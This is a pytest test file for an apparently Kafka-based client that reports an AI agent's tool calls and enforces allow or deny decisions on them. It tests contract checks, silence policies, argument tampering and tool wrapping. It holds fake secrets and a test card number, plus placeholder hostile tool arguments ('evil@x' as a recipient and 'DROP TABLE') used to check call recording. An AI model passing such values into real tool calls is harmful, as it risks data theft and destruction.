"""Driftline's client: what it puts on the bus, what it waits for, and what never leaves the process; without a broker."""

from __future__ import annotations

import asyncio
import json
import os
import queue
import re
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from fnmatch import fnmatch
from functools import partial
from pathlib import Path
from typing import Any, NamedTuple

import driftline_client
import pytest
from driftline_client import (
    ByClass,
    Call,
    Client,
    Decision,
    Denied,
    Lost,
    Redaction,
    Revoked,
    Session,
    Undecided,
    around,
    contract,
)
from driftline_client.privacy import Hidden
from hypothesis import given
from hypothesis import strategies as st
from kafka import TopicPartition
from kafka.errors import KafkaError, KafkaTimeoutError, MessageSizeTooLargeError
from kafka.future import Future

from models.contracts import (
    EVENT,
    Agent,
    Budget,
    CallHeld,
    CatalogueChanged,
    Credential,
    Intent,
    IntentAmended,
    SessionDeclared,
    SessionEnded,
    Tool,
    ToolCalled,
    ToolReturned,
)
from models.text import secrets
from stream.core.partition import Partition
from stream.events import DECISIONS, EVENTS, QUARANTINE, Record, parse
from stream.signals.registry import BY_ID
from tests.unit.test_emitter import judge

ROOT = Path(__file__).parents[2]
KEY = "ghp_" + "a1" * 18
CARD = "4111 1111 1111 1111"


class Taken(NamedTuple):
    topic: str
    key: bytes
    value: bytes
    headers: list[tuple[str, bytes]]


class Bus:
    """A bus in memory: what was sent, and decisions that are given by `decides`, once for each call."""

    def __init__(self) -> None:
        self.sent: list[Taken] = []
        self.fails: Callable[[Taken], Exception | None] = lambda _: None
        self.raises: list[Exception] = []
        self.decides: Callable[[dict[str, Any]], dict[str, Any] | None] = lambda _: None
        self.answers: queue.Queue[tuple[bytes, bytes]] = queue.Queue()
        self.partitions: set[int] | None = {0, 1}

    # of a producer

    def send(self, topic: str, *, key: bytes, value: bytes, headers: list[tuple[str, bytes]]) -> Future:
        if self.raises:
            raise self.raises.pop(0)
        taken, sending = Taken(topic, key, value, headers), Future()
        error = self.fails(taken)
        if error is not None:
            sending.failure(error)
            return sending
        self.sent.append(taken)
        sending.success(None)
        event = json.loads(value)
        if event["type"] == "tool.called" and (decided := self.decides(event)) is not None:
            named = {each: event[each] for each in ("session_id", "call_id", "tenant")} | {
                "event_id": event["id"]
            }
            self.answers.put((key, json.dumps({**named, "enforced": True, **decided}).encode()))
        return sending

    def close(self, timeout: float = 0) -> None:
        pass

    # of a consumer

    def partitions_for_topic(self, topic: str) -> set[int] | None:
        assert topic.endswith(DECISIONS)
        return self.partitions

    def assign(self, places: list[TopicPartition]) -> None:
        self.places = places

    def seek_to_end(self) -> None:
        pass

    def position(self, place: TopicPartition) -> int:
        return 0

    def poll(self, timeout_ms: int) -> dict[TopicPartition, list[Any]]:
        try:
            key, value = self.answers.get(timeout=timeout_ms / 1000)
        except queue.Empty:
            return {}
        return {self.places[0]: [Record(DECISIONS, 0, 0, 0, "none", key, (), value)]}

    def documents(self) -> list[dict[str, Any]]:
        return [json.loads(each.value) for each in self.sent]


@pytest.fixture
def bus(monkeypatch: pytest.MonkeyPatch) -> Bus:
    made = Bus()
    monkeypatch.setattr("driftline_client.client.clients", lambda *_: (lambda: made, lambda: made))
    monkeypatch.setattr("driftline_client.bus.RETRY_S", 0.01)
    return made


@pytest.fixture
def client(bus: Bus) -> Iterator[Client]:
    with Client("nowhere:9", tenant="acme", on_silence="raise", wait_s=30.0) as made:
        yield made


def allowed(_: dict[str, Any]) -> dict[str, Any]:
    return {"verdict": "allow"}


def denied(_: dict[str, Any]) -> dict[str, Any]:
    return {
        "verdict": "deny",
        "explanation": "the payee is from a mail",
        "would_pass": "an intent that names it",
    }


def played(client: Client) -> None:
    more: dict[str, Any] = {"actions": ["read", "write"], "budget": {"calls": 9}, "resources": ["DE02"]}
    tools = [
        {"name": "read_invoice", "inputSchema": {"type": "object"}, "title": "Read", "outputSchema": {}},
        {
            "type": "function",
            "function": {"name": "pay", "description": "Pays.", "parameters": {}, "strict": True},
        },
    ]
    held = [{"broker": "vault", "kind": "lease", "value": "lease/1"}]
    with client.session("Pay it.", agent={"id": "payer"}, tools=tools, credentials=held, **more) as session:
        read = session.call("read_invoice", {"number": 17})
        session.returned(read, {"iban": "DE02120300000000202051", "amount": 40})
        session.amend("Pay it twice.", plan=["Read it."])
        pay = session.call("pay", {"amount": 80}, credential=held[0])
        session.returned(pay, "refused", ok=False)
        session.held(pay, "asked")
        session.held(pay, "asked", answer="approved", by="ada")
        session.offer([{"name": "refund"}], left=["pay"])
        with client.session("Read it.", parent=session) as child:
            assert child.root == session.id


def test_every_event_satisfies_the_contract_and_the_core_judges_each_call(bus: Bus, client: Client) -> None:
    played(client)
    assert client.flush(30)
    for each in bus.sent:
        assert EVENT.validate_json(each.value) == parse(each.value).event
    events = bus.documents()
    assert [each["type"] for each in events if each["session_id"] == events[0]["session_id"]] == [
        "session.declared", "tool.called", "tool.returned", "intent.amended", "tool.called", "tool.returned",
        "call.held", "call.held", "catalogue.changed", "session.ended",
    ]  # fmt: skip
    assert {(each.topic, each.key) for each in bus.sent} == {(EVENTS, events[0]["session_id"].encode())}
    assert [each["parameters"] for each in events[0]["tools"]] == [{"type": "object"}, {}]
    records = [Record(EVENTS, 0, n, 0, "none", one.key, (), one.value) for n, one in enumerate(bus.sent)]
    outputs = judge().judge(Partition.empty(), records).outputs
    assert [json.loads(o.value)["marks"] for o in outputs if o.topic == DECISIONS] == [[], []]
    assert not [o for o in outputs if o.topic == QUARANTINE]


def test_the_names_that_the_client_knows_are_those_of_the_contract() -> None:
    told = {"id", "session_id", "root_session_id", "seq", "tenant", "time", "schema_version", "type"}
    parts = {
        "session.declared": SessionDeclared,
        "intent.amended": IntentAmended,
        "catalogue.changed": CatalogueChanged,
        "tool.called": ToolCalled,
        "call.held": CallHeld,
        "tool.returned": ToolReturned,
        "session.ended": SessionEnded,
        "intent": Intent,
        "budget": Budget,
        "agent": Agent,
        "tools": Tool,
        "credentials": Credential,
        "credential": Credential,
    }
    # A signature is over the whole event, with the number and time that the client gives it: docs/security.md.
    known = {name: set(part.model_fields) - told - {"signature"} for name, part in parts.items()}  # type: ignore[attr-defined]
    known["agent"].add("id")
    assert {name: set(fields) for name, fields in contract.FIELDS.items()} == known
    words = {"known_by": Intent, "how": CallHeld, "answer": CallHeld}
    for name, part in words.items():
        values = set(re.findall(r"'(\w+)'", str(part.model_fields[name].annotation)))  # type: ignore[attr-defined]
        assert values == set(contract._ONE_OF[name])


def test_the_guide_tells_of_every_field_of_an_intent_and_shows_names_that_there_are() -> None:
    guide = (ROOT / "docs" / "attach.md").read_text(encoding="utf-8")
    table = guide.split("## What an intent may say", 1)[1].split("\n## ", 1)[0]
    assert {f"`{name}`" for name in Intent.model_fields} - {"`text`"} <= set(re.findall(r"`\w+`", table))
    named = re.findall(r"`(\w+)\.([\w*]+)`", table)
    assert named
    for family, name in named:
        assert any(fnmatch(signal, f"{family}.{name}") for signal in BY_ID), (family, name)
    used = set(re.findall(r"session\.(\w+)\(", guide))
    assert {"tool", "call", "check", "acheck", "returned", "not_run", "held", "amend", "offer"} <= used
    assert all(hasattr(Session, name) for name in used)
    assert all(hasattr(Client, name) for name in re.findall(r"driftline\.(\w+)\(", guide))


def test_the_guide_s_first_example_runs_as_it_stands(bus: Bus, capsys: pytest.CaptureFixture[str]) -> None:
    bus.decides = allowed
    example = next(
        each
        for each in re.findall(r"```python\n(.*?)```", (ROOT / "docs" / "attach.md").read_text(), re.DOTALL)
        if "with Client" in each
    )
    exec(example, {})
    assert capsys.readouterr().out == "{'iban': 'DE02120300000000202051', 'amount': 40}\n"
    assert [each["type"] for each in bus.documents()] == [
        "session.declared",
        "tool.called",
        "tool.returned",
        "session.ended",
    ]


@pytest.mark.parametrize(
    ("fields", "says"),
    [
        ({"budget": {"call": 20}}, "did you mean 'calls'"),
        ({"agent": {"ident": "payer"}}, "agent has no field 'ident'"),
        ({"acions": ["read"]}, "did you mean 'actions'"),
        ({"actions": ["raed"]}, "actions are read, write and execute"),
        ({"tools": ["pay"]}, "tools: each is an object with name"),
        ({"agent": "payer"}, "agent: an object with id"),
        ({"credentials": ["lease/17"]}, "credentials: each is an object with broker"),
        ({"tools": [{"description": "Pays."}]}, "tools: name is missing"),
        ({"tools": [{"name": "pay", "descr": "Pays."}]}, "tools has no field 'descr'"),
        ({"credentials": [{"broker": "vault", "kind": "lease"}]}, "credentials: value is missing"),
        ({"session_id": "s" * 231}, "session_id: a text of 1 to 230 characters"),
        ({"attestation": b"x"}, "attestation: the token as text"),
    ],
)
def test_what_the_contract_does_not_know_is_refused_before_anything_is_sent(
    bus: Bus, client: Client, fields: dict[str, Any], says: str
) -> None:
    with pytest.raises((TypeError, ValueError), match=says):
        client.session("Pay it.", **fields)
    assert client.flush(1)
    assert bus.sent == []


def test_a_declaration_that_was_refused_leaves_its_name_free(bus: Bus, client: Client) -> None:
    many = [{"name": f"tool_{n}", "description": "x" * 900} for n in range(1200)]
    for fields in ({"acions": ["read"]}, {"tools": many}):
        with pytest.raises((TypeError, ValueError)):
            client.session("Pay it.", session_id="order-17", **fields)
    client.session("Pay it.", session_id="order-17").end()
    client.flush(30)
    assert [each["seq"] for each in bus.documents()] == [0, 1]


def test_a_call_of_another_shape_uses_up_no_number(bus: Bus, client: Client) -> None:
    session = client.session("Pay it.")
    for tool, arguments in (("pay", [1]), ("", {}), ("t" * 257, {})):
        with pytest.raises((TypeError, ValueError)):
            session.call(tool, arguments)  # type: ignore[arg-type]
    assert session.call("pay", {"nan": float("nan"), "half": "\ud800"}).id == f"{session.id}:0"
    client.flush(30)
    assert [each["seq"] for each in bus.documents()] == [0, 1]


def test_the_headers_carry_the_trace_context_of_the_host(bus: Bus) -> None:
    with Client("nowhere:9", on_silence="allow", trace=lambda: {"traceparent": "00-1-2-01"}) as client:
        client.session("Pay it.").end()
    assert [each.headers for each in bus.sent] == [[("traceparent", b"00-1-2-01")]] * 2


def test_a_session_ends_once_and_takes_no_call_after_it(bus: Bus, client: Client) -> None:
    with client.session("Pay it.") as session:
        running = session.call("pay", {})
        session.end("cancelled")
    session.returned(running, "late")  # what ran is told all the same
    with pytest.raises(RuntimeError, match="is over; begin a new one"):
        session.call("pay", {})
    client.flush(30)
    assert [each["type"] for each in bus.documents()][-2:] == ["session.ended", "tool.returned"]
    assert [each["reason"] for each in bus.documents() if "reason" in each] == ["cancelled"]


# ------------------------------------------------------------------ what is waited for


@pytest.mark.parametrize(
    ("decided", "runs"),
    [
        ({"verdict": "allow"}, True),
        ({"verdict": "alert"}, True),
        ({"verdict": "deny"}, False),
        ({"verdict": "revoke"}, False),
        ({"verdict": "deny", "enforced": False}, True),
        ({"verdict": "abstain", "enforced": False, "marks": ["refused"]}, False),
        ({"verdict": "abstain", "marks": ["undeclared", "declaration_refused"]}, False),
    ],
)
def test_a_decision_that_stops_is_raised(
    bus: Bus, client: Client, decided: dict[str, Any], runs: bool
) -> None:
    bus.decides = lambda _: decided
    session = client.session("Pay it.")
    call = session.call("pay", {})
    if runs:
        found = session.check(call)
        assert found is not None
        assert (found.verdict, found.enforced) == (decided["verdict"], decided.get("enforced", True))
        assert found.would_stop == (
            decided["verdict"] == "deny"
        )  # in shadow; told apart from what is allowed
        again = asyncio.run(session.acheck(session.call("pay", {})))
        assert again is not None
        assert again.verdict == found.verdict
        return
    with pytest.raises(Denied, match="pay was not run") as stopped:
        session.check(call)
    assert isinstance(stopped.value, Revoked) == (decided["verdict"] == "revoke")
    with pytest.raises(Denied):
        asyncio.run(session.acheck(call, on_silence="allow"))


def test_an_allow_is_for_one_run_of_one_call(bus: Bus, client: Client) -> None:
    bus.decides = allowed
    session = client.session("Pay it.")
    call = session.call("pay", {"amount": 40})
    with pytest.raises(Denied, match="not those that were decided on"):
        session.check(call, arguments={"amount": 4000})
    assert session.check(call, arguments={"amount": 40}) is not None
    for again in (session.check, lambda each: asyncio.run(session.acheck(each))):
        with pytest.raises(RuntimeError, match="was let run before"):
            again(call)
    bus.decides = lambda _: None
    call = session.call("pay", {"amount": 40})
    assert session.check(call, wait_s=0.01, on_silence="allow") is None
    with pytest.raises(RuntimeError, match="was let run before"):
        session.check(call, wait_s=0.01, on_silence="allow")


def test_of_many_that_ask_at_once_an_allow_lets_one_run(bus: Bus, client: Client) -> None:
    bus.decides = allowed
    session = client.session("Pay it.")
    call = session.call("pay", {})
    runs: list[object] = []

    def asks() -> None:
        with suppress(RuntimeError):
            runs.append(session.check(call))

    threads = [threading.Thread(target=asks) for _ in range(20)]
    for each in threads:
        each.start()
    for each in threads:
        each.join(30)
    assert len(runs) == 1


@pytest.mark.parametrize("waits", [False, True])
def test_arguments_that_change_while_a_call_waits_run_nothing(bus: Bus, client: Client, waits: bool) -> None:
    order, ran = {"lines": [{"iban": "DE02"}]}, []

    def decides(_: dict[str, Any]) -> dict[str, Any]:
        order["lines"][0]["iban"] = "DE66"  # another thread of the agent, after the call was told of
        return {"verdict": "allow"}

    bus.decides = decides
    session = client.session("Pay it.")

    def send(order: dict[str, Any]) -> None:
        ran.append(order)

    async def asend(order: dict[str, Any]) -> None:
        ran.append(order)

    with pytest.raises(Denied, match="not those that were decided on"):
        asyncio.run(session.tool(asend)(order)) if waits else session.tool(send)(order)
    assert ran == []


@pytest.mark.parametrize("waits", [False, True])
def test_arguments_that_change_while_a_framework_s_call_waits_run_nothing(
    bus: Bus, client: Client, waits: bool
) -> None:
    given = {"iban": "DE02"}

    def changed(_: dict[str, Any]) -> dict[str, Any]:
        given["iban"] = "DE99"
        return {"verdict": "allow"}

    bus.decides = changed
    session = client.session("Pay it.")
    with pytest.raises(Denied, match="not those that were decided on"):
        asyncio.run(around.ajudged(session, "pay", given)) if waits else around.judged(session, "pay", given)


# ------------------------------------------------------------------ what silence means, by class


@given(
    tool=st.sampled_from(["look", "pay", "new"]),
    reads=st.dictionaries(st.sampled_from(["look", "pay"]), st.sampled_from(["read", "write", "execute"])),
    sensitive=st.dictionaries(st.sampled_from(["look", "pay"]), st.booleans()),
    hints=st.booleans(),
    hinted=st.booleans(),
)
def test_silence_is_open_only_where_somebody_who_may_said_so(
    tool: str, reads: dict[str, Any], sensitive: dict[str, bool], hints: bool, hinted: bool
) -> None:
    means = ByClass(tools=reads, sensitive=sensitive, hints=hints).means(tool, hinted=hinted)
    looks = reads[tool] == "read" if tool in reads else hints and hinted
    assert (means == "allow") == (looks or sensitive.get(tool) is False)
    assert means in ("allow", "deny")


def test_each_class_has_its_word() -> None:
    by = ByClass(
        tools={"look": "read", "peek": "read", "pay": "write", "paint": "execute"},
        sensitive={"peek": False, "paint": False},
        sensitive_read="raise", read="allow", act="raise", sensitive_act="deny",
    )  # fmt: skip
    found = {tool: by.means(tool, hinted=False) for tool in ("look", "peek", "pay", "paint")}
    assert found == {"look": "raise", "peek": "allow", "pay": "deny", "paint": "raise"}


@pytest.mark.parametrize(
    "wrong",
    [{"read": "maybe"}, {"sensitive_act": None}, {"tools": {"pay": "Read"}}, {"sensitive": {"pay": "no"}}],
)
def test_a_posture_with_a_misspelt_word_is_refused(wrong: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="expected"):
        ByClass(**wrong)


def test_a_hint_counts_where_it_is_believed_and_no_other_declaration_of_that_name_lacks_it(
    bus: Bus, client: Client
) -> None:
    looks = {"name": "look", "annotations": {"readOnlyHint": True}}
    session = client.session("Look.", tools=[looks], on_silence=ByClass(hints=True))
    assert session.check(session.call("look", {}), wait_s=0.01) is None
    with pytest.raises(Denied):
        session.check(session.call("look", {}), wait_s=0.01, on_silence=ByClass())
    session.offer([{"name": "look", "server": "another"}])
    session.offer([looks])
    with pytest.raises(Denied):
        session.check(session.call("look", {}), wait_s=0.01)


def test_a_tool_s_own_word_goes_before_the_class(bus: Bus, client: Client) -> None:
    session = client.session("Pay it.", on_silence=ByClass())
    assert session.tool(pay, on_silence="allow", wait_s=0.01)("DE") is not None
    with pytest.raises(Denied):
        session.tool(pay, wait_s=0.01)("DE")


def test_an_agent_reads_why_and_what_would_pass(bus: Bus, client: Client) -> None:
    bus.decides = denied
    session = client.session("Pay it.")
    with pytest.raises(Denied) as stopped:
        session.check(session.call("pay", {}))
    assert str(stopped.value) == (
        "pay was not run: the payee is from a mail. What would pass: an intent that names it."
    )
    assert isinstance(stopped.value.decision, Decision)


@pytest.mark.parametrize(
    ("named", "told"),
    [
        ("tenat", "Client has no argument 'tenat'; did you mean 'tenant'"),
        ("security_protcol", "did you mean 'security_protocol'"),
        ("zzzzz", "kafka-python has no such setting"),
    ],
)
def test_a_setting_that_neither_the_client_nor_kafka_python_has_is_told_at_once(
    named: str, told: str
) -> None:
    with pytest.raises(TypeError, match=told):
        Client("nowhere:9", on_silence="allow", **{named: "x"})


def test_silence_means_what_the_caller_said(bus: Bus, client: Client) -> None:
    session = client.session("Pay it.")
    call = session.call("pay", {})
    with pytest.raises(Denied, match="no decision on it came in time"):
        session.check(call, wait_s=0.01, on_silence="deny")
    with pytest.raises(Undecided, match=r"within 0\.01 s"):
        session.check(call, wait_s=0.01)
    with pytest.raises(Undecided):
        asyncio.run(session.acheck(call, wait_s=0.01))
    assert session.check(call, wait_s=0.01, on_silence="allow") is None
    with pytest.raises(TypeError, match="on_silence"):
        Client("nowhere:9")  # type: ignore[call-arg]
    with pytest.raises(ValueError, match="expected allow, deny, raise or ByClass"):
        Client("nowhere:9", on_silence="maybe")  # type: ignore[arg-type]


@pytest.mark.parametrize("how", ["check", "acheck"])
def test_the_first_call_meets_no_silence_because_connections_are_made(
    bus: Bus, client: Client, how: str
) -> None:
    bus.partitions, bus.decides = None, allowed
    session = client.session("Pay it.")
    call = session.call("pay", {})
    threading.Timer(0.4, lambda: setattr(bus, "partitions", {0, 1})).start()
    waits = (
        session.check(call, wait_s=0.05) if how == "check" else asyncio.run(session.acheck(call, wait_s=0.05))
    )
    assert waits is not None
    assert waits.verdict == "allow"
    bus.decides = lambda _: None
    begun = time.monotonic()
    with pytest.raises(Undecided):
        session.check(session.call("pay", {}), wait_s=0.05)
    assert time.monotonic() - begun < 4  # no more than others from then on


@pytest.mark.parametrize("how", ["check", "acheck"])
def test_a_first_call_that_nobody_decides_on_waits_no_longer_than_others_once_its_event_arrived(
    bus: Bus, client: Client, how: str
) -> None:
    session = client.session("Pay it.")
    waits = partial(session.check, wait_s=0.3)
    if how == "acheck":
        waits = lambda call: asyncio.run(session.acheck(call, wait_s=0.3))  # noqa: E731
    begun = time.monotonic()
    with pytest.raises(Undecided):
        waits(session.call("pay", {}))
    assert 0.3 <= time.monotonic() - begun < 4
    with pytest.raises(Undecided):
        session.check(session.call("pay", {}), wait_s=0)


def test_where_nothing_connects_a_call_waits_longer_for_a_while_only(
    bus: Bus, client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("driftline_client.client.READY_S", 1.0)
    bus.raises = [KafkaTimeoutError()] * 1000
    session = client.session("Pay it.")
    for least, most in ((0.8, 30.0), (0.0, 0.8)):
        begun = time.monotonic()
        with pytest.raises(Undecided):
            session.check(session.call("pay", {}), wait_s=0.05)
        assert least <= time.monotonic() - begun < most
    bus.raises.clear()  # else closing the client waits its 30 s for what cannot leave


def test_one_reader_answers_any_number_of_waiters_each_with_its_own(bus: Bus, client: Client) -> None:
    late: list[dict[str, Any]] = []

    def decides(event: dict[str, Any]) -> dict[str, Any]:
        late.append(event)
        return {"verdict": "deny" if event["arguments"]["n"] % 3 == 0 else "allow"}

    bus.decides = decides
    sessions = [client.session(f"Task {n}.") for n in range(8)]
    told: dict[int, str] = {}

    def waits(n: int) -> None:
        session = sessions[n % 8]
        try:
            session.check(session.call("pay", {"n": n}))
            told[n] = "runs"
        except Denied:
            told[n] = "denied"

    threads = [threading.Thread(target=waits, args=(n,)) for n in range(64)]
    for each in threads:
        each.start()
    for each in threads:
        each.join(20)
    assert told == {n: "denied" if n % 3 == 0 else "runs" for n in range(64)}
    assert len(late) == 64


def test_decisions_of_others_and_what_no_worker_wrote_are_passed_by(bus: Bus, client: Client) -> None:
    session = client.session("Pay it.")
    call = session.call("pay", {})
    key, named = (
        session.id.encode(),
        {"session_id": session.id, "call_id": call.id, "event_id": f"{session.id}/1"},
    )
    allow = {**named, "tenant": "acme", "verdict": "allow", "enforced": True}
    bus.answers.put((b"another", json.dumps(allow).encode()))
    for other in (
        {"tenant": "globex"},
        {"event_id": f"{session.id}/0"},
        {"session_id": "another"},
        {"call_id": [1]},
    ):
        bus.answers.put((key, json.dumps({**allow, **other}).encode()))
    for odd in (b"", b"[]", b"3", b"{}", b"\xff", b"[" * 200_000):
        bus.answers.put((key, odd))
    with pytest.raises(Undecided):
        session.check(call, wait_s=1.0)
    bus.answers.put((key, json.dumps({**allow, "verdict": "deny"}).encode()))
    with pytest.raises(Denied):
        session.check(call)
    bus.answers.put((key, json.dumps(allow).encode()))  # a repeat of another content changes nothing
    with pytest.raises(Denied):
        session.check(call)


def test_a_name_of_a_session_that_is_open_is_refused(bus: Bus, client: Client) -> None:
    first = client.session("Pay it.", session_id="order-17")
    with pytest.raises(ValueError, match="order-17 is open already"):
        client.session("Pay all.", session_id="order-17")
    first.end()
    client.session("Pay it.", session_id="order-18").end()


def test_arguments_too_large_for_a_record_stop_their_call_alone(bus: Bus, client: Client) -> None:
    bus.decides = denied
    session = client.session("Pay it.", on_silence="allow")
    with pytest.raises(ValueError, match=r"told whole or not at all|of which a record takes 1,000,000"):
        session.call("pay", {"note": "x" * 999_999, "more": "y" * 99_999})
    bus.fails = lambda taken: MessageSizeTooLargeError() if b"lost" in taken.value else None
    assert session.check(session.call("pay", {"note": "lost"})) is None  # silence, which allows here
    with pytest.raises(Denied):  # and a decision that does come stops all the same
        session.check(session.call("pay", {}))
    assert client.n_waiting == 0


@pytest.mark.parametrize("odd", ["Deny", "denied", "", 0])
def test_a_misspelt_word_on_silence_is_refused_wherever_it_is_said(
    bus: Bus, client: Client, odd: Any
) -> None:
    session = client.session("Pay it.")
    call = session.call("pay", {})
    said: list[Callable[[], Any]] = [
        lambda: client.session("Pay it.", on_silence=odd),
        lambda: session.tool(pay, on_silence=odd)("DE"),
        lambda: session.check(call, on_silence=odd, wait_s=0.01),
        lambda: asyncio.run(session.acheck(call, on_silence=odd, wait_s=0.01)),
    ]
    for each in said:
        with pytest.raises(ValueError, match="expected allow, deny, raise or ByClass"):
            each()


def test_who_still_waits_when_a_session_ends_meets_silence(bus: Bus, client: Client) -> None:
    async def waits() -> None:
        session = client.session("Pay it.")
        waiting = asyncio.create_task(session.acheck(session.call("pay", {})))
        await asyncio.sleep(0.05)
        session.end()
        with pytest.raises(Undecided):
            await waiting

    asyncio.run(waits())
    assert client.n_waiting == 0


def test_a_client_from_before_a_fork_says_so(bus: Bus, client: Client) -> None:
    session = client.session("Pay it.")
    child = os.fork()
    if not child:
        refused = 0
        for each in (lambda: session.call("pay", {}), lambda: client.session("Pay it."), session.end):
            try:
                each()
            except RuntimeError as error:
                refused += "forked" in str(error)
        os._exit(0 if refused == 3 else 1)
    assert os.waitpid(child, 0)[1] == 0


def test_without_the_right_to_read_decisions_silence_decides_and_the_log_says_why(
    bus: Bus, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("driftline_client.client.READY_S", 0.05)
    bus.partitions = None
    with Client("nowhere:9", on_silence="raise", wait_s=0.05) as client:
        session = client.session("Pay it.")
        with pytest.raises(Undecided):
            session.check(session.call("pay", {}))
    assert (
        "agent.decisions.v1 is missing (run `driftline topics create`), or this principal may not read it"
        in caplog.text
    )


def test_a_client_that_reads_no_decisions_says_so(bus: Bus) -> None:
    with Client("nowhere:9", on_silence="deny", decisions=False) as client:
        session = client.session("Pay it.")
        with pytest.raises(RuntimeError, match="decisions=True"):
            session.check(session.call("pay", {}))
        assert session.tool(lambda: 3, name="three")() == 3  # type: ignore[call-overload]


# ------------------------------------------------------------------ around a tool


def pay(iban: str, amount: float = 1.0, **more: Any) -> str:
    """Pays."""
    return f"paid {amount} to {iban}"


def test_a_tool_is_told_of_decided_on_run_and_told_of_again(bus: Bus, client: Client) -> None:
    bus.decides = allowed
    with client.session("Pay it.") as session:
        tool = session.tool(pay)
        assert tool("DE02", amount=2, note="x") == "paid 2 to DE02"
        assert (tool.__name__, tool.__doc__) == ("pay", "Pays.")

        @session.tool(name="look_up", wait_s=30.0)
        async def look(number: int) -> dict[str, int]:
            return {"number": number}

        assert asyncio.run(look(4)) == {"number": 4}
        with pytest.raises(ZeroDivisionError):
            session.tool(lambda: 1 / 0, name="fails")()  # type: ignore[call-overload]
    client.flush(30)
    called = [(e["tool"], e["arguments"]) for e in bus.documents() if e["type"] == "tool.called"]
    assert called == [
        ("pay", {"iban": "DE02", "amount": 2, "note": "x"}),
        ("look_up", {"number": 4}),
        ("fails", {}),
    ]
    returned = [(e["status"], e["result"]) for e in bus.documents() if e["type"] == "tool.returned"]
    assert returned == [
        ("ok", "paid 2 to DE02"),
        ("ok", {"number": 4}),
        ("error", "failed: ZeroDivisionError: division by zero"),
    ]
    assert bus.documents()[-1]["reason"] == "done"


def test_a_tool_that_may_not_run_does_not(bus: Bus, client: Client) -> None:
    bus.decides = denied
    ran: list[int] = []

    async def later(n: int) -> None:
        ran.append(n)

    with suppress(Denied), client.session("Pay it.") as session:
        with pytest.raises(Denied):
            asyncio.run(session.tool(later)(1))
        session.tool(ran.append, name="now")(2)
    assert ran == []
    client.flush(30)
    told = [(e["status"], e["result"]) for e in bus.documents() if e["type"] == "tool.returned"]
    assert told == [("not_run", "the decision was against it")] * 2
    assert bus.documents()[-1]["reason"] == "failed: Denied"


def test_why_a_call_never_ran_is_told_as_it_was(bus: Bus, client: Client) -> None:
    async def cut_off(wrapped: Any) -> None:
        waiting = asyncio.create_task(wrapped(1))
        await asyncio.sleep(0.1)
        waiting.cancel()
        await waiting

    async def later(n: int) -> None:
        pass

    session = client.session("Pay it.")
    for wait_s, on_silence, error in ((0.01, "deny", Denied), (0.01, "raise", Undecided)):
        with pytest.raises(error):
            session.tool(print, name="pay", wait_s=wait_s, on_silence=on_silence)("x")
    with pytest.raises(asyncio.CancelledError):
        asyncio.run(cut_off(session.tool(later)))
    client.flush(30)
    silent, undecided, cancelled = [e["result"] for e in bus.documents() if e["type"] == "tool.returned"]
    assert silent == "no decision on it came in time"
    assert re.fullmatch(r"no decision on .* within 0\.01 s", undecided)
    assert cancelled == "it was cancelled while it waited"


def test_a_call_whose_arguments_can_be_told_no_longer_was_not_cancelled(bus: Bus, client: Client) -> None:
    held: list[Any] = ["x"]

    def spoilt(call: Any) -> Any:
        held[0] = held  # no document any more, while its decision is on its way
        return allowed(call)

    bus.decides = spoilt
    session = client.session("Pay it.")
    with pytest.raises((TypeError, ValueError, RecursionError)) as raised:
        session.tool(lambda to: to, name="pay")(held)
    client.flush(30)
    told = [e["result"] for e in bus.documents() if e["type"] == "tool.returned"]
    assert told == [f"its decision could not be looked at ({raised.type.__name__})"]


def test_what_is_told_is_what_runs(bus: Bus, client: Client) -> None:
    bus.decides = allowed

    def send(to: str, /, amount: int = 7, **headers: Any) -> str:
        return to

    def run(self: str) -> str:
        return self

    class Host:
        def look(self, n: int = 3) -> int:
            return n

        async def __call__(self, n: int) -> int:
            return n

    with client.session("Do it.") as session:
        session.tool(send)("evil@x", to="boss@corp")
        session.tool(run)("DROP TABLE")
        session.tool(Host().look)()
        session.tool(partial(send, "evil@x", cc="me"), name="bound")(amount=9)
        assert asyncio.run(session.tool(Host(), name="host")(4)) == 4  # type: ignore[arg-type]
        later = session.tool(lambda: asyncio.sleep(0, "late"), name="later")
        assert asyncio.run(_awaited(later)) == "late"
    client.flush(30)
    told = [(e["tool"], e["arguments"]) for e in bus.documents() if e["type"] == "tool.called"]
    assert told == [
        ("send", {"to": "evil@x", "amount": 7, "headers": {"to": "boss@corp"}}),
        ("run", {"self": "DROP TABLE"}),
        ("look", {"n": 3}),
        ("bound", {"to": "evil@x", "amount": 9, "cc": "me"}),
        ("host", {"n": 4}),
        ("later", {}),
    ]
    assert [e["result"] for e in bus.documents() if e["type"] == "tool.returned"] == [
        "evil@x", "DROP TABLE", 3, "evil@x", 4, "late",
    ]  # fmt: skip


async def _awaited(run: Callable[[], Any]) -> Any:
    return await run()


def test_what_a_tool_did_stands_though_it_cannot_be_told(bus: Bus, client: Client) -> None:
    bus.decides = allowed

    class Silent(Exception):
        def __str__(self) -> str:
            raise RuntimeError

    def fails() -> None:
        raise Silent

    with suppress(Silent), client.session("Do it.") as session:
        huge = session.tool(lambda: 10**5000, name="huge")()
        assert huge == 10**5000
        session.tool(fails)()
    client.flush(30)
    returned = [(e["status"], e["result"]) for e in bus.documents() if e["type"] == "tool.returned"]
    assert [status for status, _ in returned] == ["ok", "error"]
    assert returned[1][1] == "failed: Silent: "


def test_a_tool_that_is_denied_within_another_does_not_unsay_the_other(bus: Bus, client: Client) -> None:
    bus.decides = lambda event: denied(event) if event["tool"] == "inner" else allowed(event)
    with suppress(Denied), client.session("Do it.") as session:
        inner = session.tool(lambda: None, name="inner")
        session.tool(lambda: inner(), name="outer")()
    client.flush(30)
    told = [e["status"] for e in bus.documents() if e["type"] == "tool.returned"]
    assert told == ["not_run", "error"]


def test_a_generator_is_no_tool(client: Client) -> None:
    def rows() -> Iterator[int]:
        yield 1

    session = client.session("Read it.")
    with pytest.raises(TypeError, match="call, check and returned"):
        session.tool(rows)


# ------------------------------------------------------------------ a bus that is away


def test_events_wait_for_a_bus_that_is_away_in_their_order(bus: Bus, client: Client) -> None:
    bus.raises = [KafkaTimeoutError(), OSError(), KafkaTimeoutError()]
    began = time.monotonic()
    played(client)
    assert time.monotonic() - began < 20
    assert client.flush(30)
    numbers = [each["seq"] for each in bus.documents() if each.get("parent_session_id") is None]
    assert numbers[0] == 0
